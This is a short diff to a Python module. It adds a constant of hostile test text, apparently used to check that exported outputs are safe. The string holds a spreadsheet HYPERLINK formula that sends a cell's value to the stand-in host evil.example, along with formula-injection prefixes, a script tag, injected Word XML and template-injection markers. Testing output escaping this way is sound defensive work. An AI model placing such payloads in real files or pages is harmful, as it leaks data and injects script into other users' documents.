@@ -7,6 +7,13 @@ import json
 from html.parser import HTMLParser
 from typing import Any
 
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click") +1+2 -3+4 @SUM(A1:A9) '
+    "<script>alert('x')</script> <b>bold</b> </w:t></w:r><w:r><w:t>injected &amp; {{ 7*7 }}"
+    " {% raw %}"
+)
+"""The hostile text of the command line's corpus (tests/test_safe_outputs.py)."""
+
 
 class FormReader(HTMLParser):
     """The fields of the form with id ``form_id``, as a browser submits them without pressing a
